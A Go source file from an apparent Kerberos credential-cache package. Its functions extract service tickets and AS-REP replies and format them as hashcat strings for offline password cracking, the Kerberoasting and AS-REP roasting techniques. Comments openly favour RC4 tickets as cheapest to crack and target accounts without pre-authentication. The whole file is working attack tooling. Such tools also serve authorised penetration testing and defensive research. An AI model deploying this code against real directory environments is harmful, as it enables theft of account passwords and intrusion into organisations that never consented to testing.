package ccache

import (
	"encoding/hex"
	"fmt"

	"github.com/jcmturner/gokrb5/v8/iana/etypeID"
	"github.com/jcmturner/gokrb5/v8/messages"
)

// GetHashes returns a hashcat-compatible hash string for every credential
// whose ticket uses RC4 (etype 23), the cheapest type to crack offline.
// With allHashes, the encryption type filter is disabled. Credentials whose
// ticket field does not decode are skipped.
func (c *CCache) GetHashes(allHashes bool) []string {
	var hashes []string

	for _, cred := range c.Credentials {
		var ticket messages.Ticket

		err := ticket.Unmarshal(cred.Ticket)
		if err != nil {
			continue
		}

		if ticket.EncPart.EType != etypeID.RC4_HMAC && !allHashes {
			continue
		}

		hash, err := TGSHashcat(ticket)
		if err != nil {
			continue
		}

		hashes = append(hashes, hash)
	}

	return hashes
}

// Hashcat derives the offline-cracking hash string for the credential's
// ticket.
func (c *Credential) Hashcat() (string, error) {
	var ticket messages.Ticket

	err := ticket.Unmarshal(c.Ticket)
	if err != nil {
		return "", fmt.Errorf("%w: %v", ErrMalformedTicket, err)
	}

	return TGSHashcat(ticket)
}

// TGSHashcat formats a service ticket's ciphertext for hashcat. AES256
// tickets carry the checksum in the last 12 bytes of the ciphertext, all
// other encryption types in the first 16, and the two layouts use different
// hash-string framing.
func TGSHashcat(ticket messages.Ticket) (string, error) {
	if len(ticket.SName.NameString) == 0 {
		return "", fmt.Errorf("ticket sname has no name components")
	}

	// Two-part service principals are conventionally displayed by their
	// second component.
	name := ticket.SName.NameString[0]
	if len(ticket.SName.NameString) > 1 {
		name = ticket.SName.NameString[1]
	}

	cipher := ticket.EncPart.Cipher

	if ticket.EncPart.EType == etypeID.AES256_CTS_HMAC_SHA1_96 {
		if len(cipher) < 12 {
			return "", fmt.Errorf("ticket cipher too short: %d bytes", len(cipher))
		}

		checksum := cipher[len(cipher)-12:]
		encryptedData := cipher[:len(cipher)-12]

		return fmt.Sprintf("$krb5tgs$%d$%s$%s$%s$%s",
			ticket.EncPart.EType, name, ticket.Realm,
			hex.EncodeToString(checksum), hex.EncodeToString(encryptedData)), nil
	}

	if len(cipher) < 16 {
		return "", fmt.Errorf("ticket cipher too short: %d bytes", len(cipher))
	}

	return fmt.Sprintf("$krb5tgs$%d$*%s$%s$spn*$%s$%s",
		ticket.EncPart.EType, name, ticket.Realm,
		hex.EncodeToString(cipher[:16]), hex.EncodeToString(cipher[16:])), nil
}

// ASRepHashcat formats the encrypted part of an AS-REP for hashcat,
// targeting accounts that do not require pre-authentication.
func ASRepHashcat(asRep messages.ASRep) (string, error) {
	if len(asRep.CName.NameString) == 0 {
		return "", fmt.Errorf("AS-REP cname has no name components")
	}

	if len(asRep.EncPart.Cipher) < 16 {
		return "", fmt.Errorf("AS-REP cipher too short: %d bytes", len(asRep.EncPart.Cipher))
	}

	return fmt.Sprintf("$krb5asrep$%d$%s$%s$%s$%s",
		asRep.EncPart.EType, asRep.CName.NameString[0], asRep.CRealm,
		hex.EncodeToString(asRep.EncPart.Cipher[:16]),
		hex.EncodeToString(asRep.EncPart.Cipher[16:])), nil
}
